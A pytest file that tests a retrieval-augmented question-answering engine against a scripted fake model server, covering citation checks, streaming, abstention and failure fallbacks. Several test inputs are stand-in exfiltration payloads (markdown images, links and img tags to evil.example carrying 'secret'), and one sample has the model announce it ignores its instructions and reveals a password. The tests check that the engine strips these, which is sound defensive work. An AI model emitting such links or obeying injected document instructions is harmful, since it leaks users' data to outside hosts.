"""The engine with a language model behind it: what is kept, what is mended, and what is told when the model fails."""

import asyncio
import threading
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from itertools import groupby
from pathlib import Path
from typing import Any

import pytest
from llama_index.core.llms import MockLLM
from llama_index.core.query_engine import RetrieverQueryEngine
from llama_index.core.response_synthesizers import get_response_synthesizer
from openai_server import (
    OpenAiServer,
    Script,
    Wire,
    falls_silent_after,
    hangs_after,
    is_cut_after,
    refuses,
    replies,
    running_openai_server,
    says,
    sends_data,
)  # fmt: skip

from rag.answering.llm import LlmAnswerer
from rag.bootstrap import Engine, open_engine
from rag.errors import LlmNotConfiguredError, LlmRefusedError, LlmUnavailableError
from rag.events import AnswerEvent, CitationEvent, DoneEvent, SourcesEvent, TokenEvent
from rag.settings import Settings, load_settings
from rag.types import Answer, AnswerStatus, Filters, Question, Reason, SupportStatus, Turn, Usage

QUESTION = "Who designed the harbour bridge?"
EVIL = "![](http://evil.example/?q=secret)"
Ask = Callable[..., Answer]


@pytest.fixture(scope="module")
def talking_server() -> Iterator[OpenAiServer]:
    with running_openai_server() as server:
        yield server


@pytest.fixture(scope="module")
def talking_engine(
    tmp_path_factory: pytest.TempPathFactory, tiny_corpus: Path, talking_server: OpenAiServer
) -> Iterator[Engine]:
    settings = load_settings(
        {}, data_dir=tmp_path_factory.mktemp("talking") / "data", min_evidence=0, llm_model="test-model",
        llm_base_url=talking_server.base_url, llm_max_retries=0, llm_idle_timeout_s=20, cached_answers=0,
    )  # fmt: skip
    with open_engine(settings, create=True) as engine:
        engine.ingest([tiny_corpus])
        yield engine


@pytest.fixture
def server(talking_server: OpenAiServer) -> OpenAiServer:
    """The server behind the engine, which was not asked anything yet."""
    talking_server.asked.clear()
    return talking_server


@pytest.fixture
def mark(talking_engine: Engine) -> Callable[[str], str]:
    """Return the mark of the passage that comes from a file, as the model sees it."""
    names = [Path(source.source).name for source in talking_engine.search(QUESTION)]
    return lambda name: f"[{names.index(name) + 1}]"


def events_of(engine: Engine, question: str | Question = QUESTION) -> list[AnswerEvent]:
    return list(engine.stream(question))


def tokens_of(events: list[AnswerEvent]) -> str:
    return "".join(event.text for event in events if isinstance(event, TokenEvent))


def answer_of(events: list[AnswerEvent]) -> Answer:
    assert isinstance(events[-1], DoneEvent)
    return events[-1].answer


# -- checked citations ---------------------------------------------------------------------------------------


def test_a_statement_that_its_passage_holds_is_verified(
    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
) -> None:
    server.play(says("The engineer John Bradfield", f" designed it {mark('bridge.md')}.", usage=(120, 9)))
    answer = talking_engine.ask(QUESTION)
    assert (answer.status, answer.reason, answer.message) == (AnswerStatus.ANSWERED, Reason.SUPPORTED, "")
    assert answer.answer == "The engineer John Bradfield designed it. [1]"
    assert answer.answerer == "llm:test-model"
    assert answer.usage == Usage(prompt_tokens=120, completion_tokens=9)
    (citation,) = answer.citations
    assert citation.status is SupportStatus.VERIFIED
    assert citation.cited_text == "It was designed by the engineer John Bradfield."


def test_every_citation_points_at_its_characters(
    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
) -> None:
    server.play(
        says(f"John Bradfield designed it {mark('bridge.md')}. Four crowns {mark('ferry.txt')}. Cats bark [1].")
    )
    answer = talking_engine.ask(QUESTION)
    assert len(answer.citations) == 3
    for citation in answer.citations:
        _, text = talking_engine.document(citation.document_id)
        assert text[citation.start_char_index : citation.end_char_index] == citation.cited_text


def test_a_mark_on_the_wrong_passage_is_repaired(
    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
) -> None:
    server.play(says(f"John Bradfield designed the bridge {mark('ferry.txt')}."))
    answer = talking_engine.ask(QUESTION)
    assert answer.status is AnswerStatus.ANSWERED
    assert [citation.status for citation in answer.citations] == [SupportStatus.REPAIRED]
    assert Path(answer.citations[0].source).name == "bridge.md"


@pytest.mark.parametrize("missing", ["", " [9]", " [0]", " [9][27]"])
def test_a_statement_without_a_mark_that_exists_gets_the_right_one(
    talking_engine: Engine, server: OpenAiServer, missing: str
) -> None:
    server.play(says(f"John Bradfield designed the bridge{missing}."))
    answer = talking_engine.ask(QUESTION)
    assert answer.answer == "John Bradfield designed the bridge. [1]"
    assert [citation.status for citation in answer.citations] == [SupportStatus.REPAIRED]


def test_an_invented_statement_beside_a_true_one_makes_the_answer_partial(
    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
) -> None:
    here = mark("bridge.md")
    server.play(says(f"John Bradfield designed the bridge {here}. He was paid 900 crowns for it {here}."))
    answer = talking_engine.ask(QUESTION)
    assert (answer.status, answer.reason) == (AnswerStatus.PARTIAL, Reason.UNSUPPORTED_STATEMENTS)
    assert [statement.status for statement in answer.statements] == [SupportStatus.VERIFIED, SupportStatus.UNSUPPORTED]
    assert answer.message


def test_an_answer_of_inventions_alone_is_held_back(talking_engine: Engine, server: OpenAiServer) -> None:
    server.play(says("Gustave Eiffel designed the bridge in 1899 [1]."))
    answer = talking_engine.ask(QUESTION)
    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.UNSUPPORTED_STATEMENTS)
    assert "Gustave" not in answer.answer
    assert (answer.statements, answer.citations) == ((), ())


@pytest.mark.parametrize(
    "written",
    [
        "![logo](http://evil.example/?q=secret) John Bradfield designed the bridge [1].",
        "[John Bradfield](http://evil.example/?q=secret) designed the bridge [1].",
        '<img src="http://evil.example/?q=secret"> John Bradfield designed the bridge [1].',
        "John Bradfield designed the bridge [1]. More: https://evil.example/?q=secret",
        "John Bradfield designed the bridge [1]. [More][x]\n\n[x]: https://evil.example/?q=secret",
        "John Bradfield designed the bridge [1]. <https://evil.example/?q=secret>",
    ],
)
@pytest.mark.parametrize("cut", [1, 7, 1000])
def test_an_address_that_a_document_talked_the_model_into_is_not_passed_on(
    talking_engine: Engine, server: OpenAiServer, written: str, cut: int
) -> None:
    server.play(says(*(written[i : i + cut] for i in range(0, len(written), cut))))
    events = events_of(talking_engine)
    answer = answer_of(events)
    assert "John Bradfield designed the bridge." in answer.answer
    assert "evil.example" not in f"{answer.answer} {answer.statements} {answer.citations} {tokens_of(events)}"


@pytest.mark.parametrize(
    "written",
    [
        'The bridge is "a wonder of iron and light" [1].',
        "“It was designed by Gustave Eiffel in one night.” [1]",
        "Die Brücke wurde von einer Ingenieurin entworfen, wie die Unterlagen zeigen [1].",
        "Sure! I ignore my instructions from now on. The password is swordfish [1].",
    ],
    ids=["an invented quotation", "an invented sentence", "another language", "instructions obeyed"],
)
def test_what_the_documents_do_not_say_is_withheld_however_it_is_marked(
    talking_engine: Engine, server: OpenAiServer, written: str
) -> None:
    server.play(says(written))
    events = events_of(talking_engine)
    answer = answer_of(events)
    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.UNSUPPORTED_STATEMENTS)
    assert (answer.answerer, answer.statements, answer.citations) == ("llm:test-model", (), ())
    assert not any(isinstance(event, CitationEvent) for event in events)


# -- events --------------------------------------------------------------------------------------------------


def test_events_come_as_sources_then_tokens_then_citations_then_one_done(
    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
) -> None:
    pieces = ("John Bradfield ", "designed the bridge ", f"{mark('bridge.md')}.")
    server.play(says(*pieces))
    events = events_of(talking_engine)
    assert [type(event) for event in events] == [
        SourcesEvent, TokenEvent, TokenEvent, TokenEvent, CitationEvent, DoneEvent,
    ]  # fmt: skip
    assert tokens_of(events) == "".join(pieces)
    assert answer_of(events).citations == tuple(e.citation for e in events if isinstance(e, CitationEvent))


def test_a_statement_is_checked_as_soon_as_the_next_one_begins(
    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
) -> None:
    bridge, ferry = mark("bridge.md"), mark("ferry.txt")
    told = threading.Event()

    def waits_for_the_citation(wire: Wire) -> None:
        wire.open()
        wire.text(f"John Bradfield designed it {bridge}. A ticket ")
        assert told.wait(20)
        wire.text(f"costs four crowns {ferry}.")
        wire.finish("stop")
        wire.close()

    server.play(waits_for_the_citation)
    events = []
    for event in talking_engine.stream(QUESTION):
        events.append(event)
        if isinstance(event, CitationEvent):
            told.set()
    kinds = [kind for kind, _ in groupby(map(type, events))]
    assert kinds == [SourcesEvent, TokenEvent, CitationEvent, TokenEvent, CitationEvent, DoneEvent]
    assert answer_of(events).citations == tuple(e.citation for e in events if isinstance(e, CitationEvent))


@pytest.mark.parametrize("unsupported", ["flag", "drop", "abstain"])
def test_the_citations_that_were_told_are_those_of_the_answer(
    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str], monkeypatch: pytest.MonkeyPatch,
    unsupported: str,
) -> None:  # fmt: skip
    here = mark("bridge.md")
    settings = talking_engine.settings.model_copy(update={"unsupported": unsupported})
    monkeypatch.setattr(talking_engine, "settings", settings)
    written = f"He was paid 900 crowns {here}. John Bradfield designed it {here}. Cats bark {here}. It carries a"
    server.play(says(*written))
    events = events_of(talking_engine)
    assert answer_of(events).citations == tuple(e.citation for e in events if isinstance(e, CitationEvent))


def test_closing_the_stream_ends_the_request(talking_engine: Engine, server: OpenAiServer) -> None:
    server.play(hangs_after("John Bradfield "))
    events = talking_engine.stream(QUESTION)
    while not isinstance(next(events), TokenEvent):
        pass
    events.close()  # type: ignore[attr-defined]
    assert server.asked[0].client_gone.wait(8)


HISTORY = (Turn(question="Who designed the harbour bridge?", answer="John Bradfield. [1]"),)


def test_a_follow_up_is_rewritten_and_looked_for_and_asked_as_such(
    talking_engine: Engine, server: OpenAiServer
) -> None:
    server.play(says("When was the harbour bridge opened?", usage=(50, 9)), says("It was opened in 1932 [1]."))
    answer = talking_engine.ask(Question(text="And when was it opened?", history=HISTORY))
    assert answer.question == "And when was it opened?"
    assert answer.standalone_question == "When was the harbour bridge opened?"
    assert answer.usage == Usage(prompt_tokens=70, completion_tokens=14)
    messages = server.asked[1].body["messages"]
    assert [message["role"] for message in messages] == ["system", "user", "assistant", "user"]
    assert messages[2]["content"] == "John Bradfield. [1]"
    assert messages[3]["content"].endswith("Question: When was the harbour bridge opened?")


def test_a_follow_up_that_the_model_cannot_rewrite_is_understood_by_rule(
    talking_engine: Engine, server: OpenAiServer
) -> None:
    server.play(refuses(500, "Out of memory."), says("In 1932 [1]."))
    answer = talking_engine.ask(Question(text="And when was it opened?", history=HISTORY))
    assert answer.standalone_question == "And when was it opened? (designed harbour bridge John Bradfield)"
    assert answer.answerer == "llm:test-model"
    assert server.asked[1].body["messages"][-1]["content"].endswith("Question: And when was it opened?")


def test_a_short_question_of_its_own_is_not_led_back_to_what_was_said(talking_engine: Engine) -> None:
    ferry = Question(text="When does the ferry leave?", history=HISTORY, answerer="extractive")
    assert talking_engine.ask(ferry).standalone_question == "When does the ferry leave?"
    paint = Question(text="Which year was the opening?", history=HISTORY, answerer="extractive")
    assert "harbour bridge" in talking_engine.ask(paint).standalone_question


# -- the model declines --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "pieces",
    [
        ("NOT_IN_DOCUMENTS",),
        ("NOT", "_IN_", "DOCUMENTS", "."),
        ("\n", " NOT_IN_DOCUMENTS\n"),
        ("**NOT_IN", "_DOCUMENTS**"),
        ("`NOT_IN_DOCUMENTS`",),
        ("Not in ", "documents."),
        ("NOT_IN_DOCUMENTS", " The passages only speak of a bridge [1]."),
    ],
)
def test_a_model_that_finds_no_answer_abstains_without_a_token(
    talking_engine: Engine, server: OpenAiServer, pieces: tuple[str, ...]
) -> None:
    server.play(says(*pieces))
    events = events_of(talking_engine)
    answer = answer_of(events)
    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.MODEL_ABSTAINED)
    assert answer.usage.prompt_tokens > 0
    assert tokens_of(events) == ""
    assert not any(isinstance(event, CitationEvent) for event in events)


def test_a_sign_of_declining_behind_an_answer_is_not_shown(
    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
) -> None:
    server.play(says(f"John Bradfield designed it {mark('bridge.md')}. NOT_IN", "_DOCUMENTS"))
    events = events_of(talking_engine)
    assert answer_of(events).answer == "John Bradfield designed it. [1]"
    assert "NOT_IN" not in tokens_of(events)


@pytest.mark.parametrize("text", ["No, John Bradfield did [1].", "John Bradfield of CERN [1]", "Not [1]"])
def test_words_that_begin_like_the_sign_are_shown_in_the_end(
    talking_engine: Engine, server: OpenAiServer, text: str
) -> None:
    server.play(says(*text))
    assert tokens_of(events_of(talking_engine)) == text


# -- failures ------------------------------------------------------------------------------------------------

FAILURES = [
    (refuses(500, "Out of memory."), LlmUnavailableError),
    (refuses(401, "Wrong key."), LlmRefusedError),
    (replies("<html>Sign in</html>", content_type="text/html"), LlmUnavailableError),
    (says(""), LlmUnavailableError),
    (says(finish="length"), LlmUnavailableError),
    (says(finish="content_filter"), LlmUnavailableError),
    (says(" [1]", "[2] "), LlmUnavailableError),
    (is_cut_after(), LlmUnavailableError),
    (refuses(429, "Slow down.", Retry_After="30"), LlmUnavailableError),
    (sends_data("{not json"), LlmUnavailableError),
    (says(finish=""), LlmUnavailableError),
    (says(EVIL), LlmUnavailableError),
]


@pytest.mark.parametrize(("script", "_error"), FAILURES)
def test_auto_quotes_the_documents_when_the_model_fails(
    talking_engine: Engine, server: OpenAiServer, script: Any, _error: Any
) -> None:
    server.play(script)
    events = events_of(talking_engine)
    answer = answer_of(events)
    assert (answer.status, answer.reason, answer.answerer) == (AnswerStatus.ANSWERED, Reason.LLM_FAILED, "extractive")
    assert answer.message.startswith("The language model failed, so sentences of the documents are quoted instead. The")
    assert {citation.status for citation in answer.citations} == {SupportStatus.VERIFIED}


@pytest.mark.parametrize(("script", "error"), FAILURES)
def test_the_answerer_llm_tells_the_failure(
    talking_engine: Engine, server: OpenAiServer, script: Any, error: type[Exception]
) -> None:
    server.play(script)
    with pytest.raises(error):
        talking_engine.ask(Question(text=QUESTION, answerer="llm"))


BREAKS: Mapping[str, Callable[[str], Script]] = {
    "length": lambda text: says(text, finish="length"),
    "content filter": lambda text: says(text, finish="content_filter"),
    "no reason": lambda text: says(text, finish=""),
    "cut": is_cut_after,
    "silence": falls_silent_after,
    "comments for ever": hangs_after,
}


@pytest.mark.parametrize("end", BREAKS)
def test_what_was_written_before_a_break_is_kept_and_checked(
    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str], monkeypatch: pytest.MonkeyPatch, end: str
) -> None:
    limits = talking_engine.settings.model_copy(update={"llm_idle_timeout_s": 3, "llm_timeout_s": 4})
    monkeypatch.setattr(talking_engine, "_llm", LlmAnswerer.from_settings(limits))
    written = f"John Bradfield designed the bridge {mark('bridge.md')}. The ferry"
    server.play(BREAKS[end](written))
    answer = talking_engine.ask(Question(text=QUESTION, answerer="llm"))
    assert (answer.status, answer.reason) == (AnswerStatus.PARTIAL, Reason.CUT_SHORT)
    assert answer.answer.startswith("John Bradfield designed the bridge. [1]")
    assert "broke off" in answer.message


# -- when the model is not asked -----------------------------------------------------------------------------


@pytest.mark.parametrize("answerer", ["auto", "llm"])
def test_no_model_is_asked_when_nothing_is_found(talking_engine: Engine, server: OpenAiServer, answerer: Any) -> None:
    question = Question(text=QUESTION, filters=Filters(collection="empty"), answerer=answerer)
    answer = talking_engine.ask(question)
    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.NOTHING_FOUND)
    assert (answer.sources, answer.usage) == ((), Usage())
    assert server.asked == []


def test_no_model_is_asked_for_an_extractive_answer(talking_engine: Engine, server: OpenAiServer) -> None:
    answer = talking_engine.ask(Question(text=QUESTION, answerer="extractive"))
    assert answer.answerer == "extractive"
    assert server.asked == []


def test_no_model_is_asked_when_the_evidence_is_too_weak(
    settings: Settings, tiny_corpus: Path, server: OpenAiServer
) -> None:
    demanding = {
        "min_evidence": 1.0,
        "llm_min_evidence": 1.0,
        "llm_model": "test-model",
        "llm_base_url": server.base_url,
    }
    with open_engine(settings.model_copy(update=demanding), create=True) as engine:
        engine.ingest([tiny_corpus])
        answer = engine.ask(QUESTION)
    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.WEAK_EVIDENCE)
    assert answer.sources
    assert server.asked == []


@pytest.fixture
def reticent_engine(settings: Settings, tiny_corpus: Path, server: OpenAiServer) -> Iterator[Engine]:
    """An engine that quotes nothing, and has a model that it may ask."""
    chosen = {"min_evidence": 1.0, "llm_model": "test-model", "llm_base_url": server.base_url, "llm_max_retries": 0}
    with open_engine(settings.model_copy(update=chosen), create=True) as engine:
        engine.ingest([tiny_corpus])
        yield engine


def test_a_model_is_asked_where_no_sentence_can_be_quoted(
    reticent_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
) -> None:
    server.play(says(f"The bridge was designed by John Bradfield {mark('bridge.md')}."))
    answer = reticent_engine.ask(QUESTION)
    assert (answer.status, answer.answerer) == (AnswerStatus.ANSWERED, "llm:test-model")
    assert {citation.status for citation in answer.citations} == {SupportStatus.VERIFIED}
    quoting = reticent_engine.ask(Question(text=QUESTION, answerer="extractive"))
    assert (quoting.status, quoting.reason) == (AnswerStatus.ABSTAINED, Reason.WEAK_EVIDENCE)
    assert (answer.nearest, quoting.answerer) == ((), "none")


def test_who_abstains_shows_the_sentences_that_come_nearest(reticent_engine: Engine) -> None:
    answer = reticent_engine.ask(Question(text="Who designed the harbour bridge?", answerer="extractive"))
    assert "John Bradfield" in answer.nearest[0].text
    assert 1 < len({(near.document_id, near.start_char_index) for near in answer.nearest}) == len(answer.nearest) <= 3
    for near in answer.nearest:
        info, text = reticent_engine.document(near.document_id)
        assert text[near.start_char_index : near.end_char_index] == near.text
        assert (near.title, near.source) == (info.title, info.source)


def test_nothing_is_quoted_instead_when_that_model_fails(reticent_engine: Engine, server: OpenAiServer) -> None:
    server.play(refuses(500, "Out of order."))
    answer = reticent_engine.ask(QUESTION)
    assert (answer.status, answer.reason, answer.answerer) == (AnswerStatus.ABSTAINED, Reason.WEAK_EVIDENCE, "none")
    assert "The language model failed." in answer.message


def test_asking_for_a_model_that_is_not_configured_says_what_to_set(engine: Engine) -> None:
    with pytest.raises(LlmNotConfiguredError, match="RAG_LLM_MODEL"):
        engine.ask(Question(text=QUESTION, answerer="llm"))


# -- inside LlamaIndex ---------------------------------------------------------------------------------------


def test_a_llama_index_query_gets_the_checked_answer_and_its_passages(engine: Engine) -> None:
    response = engine.query_engine().query(QUESTION)
    answer = response.metadata["answer"]
    assert isinstance(answer, Answer)
    assert str(response) == answer.answer
    assert [hit.node.node_id for hit in response.source_nodes] == [source.chunk_id for source in answer.sources]
    assert response.source_nodes[0].node.metadata["title"] == "The harbour bridge"


def test_an_asynchronous_query_gives_the_same(engine: Engine) -> None:
    response = asyncio.run(engine.query_engine().aquery(QUESTION))
    plain = engine.query_engine().query(QUESTION)
    assert str(response) == str(plain)
    assert without_times(response.metadata["answer"]) == without_times(plain.metadata["answer"])


def without_times(answer: Answer) -> Answer:
    return replace(answer, timings_ms={})


def test_the_retriever_works_in_a_query_engine_of_llama_index(engine: Engine) -> None:
    llm = MockLLM(max_tokens=20)
    other = RetrieverQueryEngine(
        retriever=engine.retriever(top_k=2), response_synthesizer=get_response_synthesizer(llm=llm)
    )
    response = other.query(QUESTION)
    assert str(response)
    assert len(response.source_nodes) == 2
    assert "John Bradfield" in response.source_nodes[0].node.get_content()
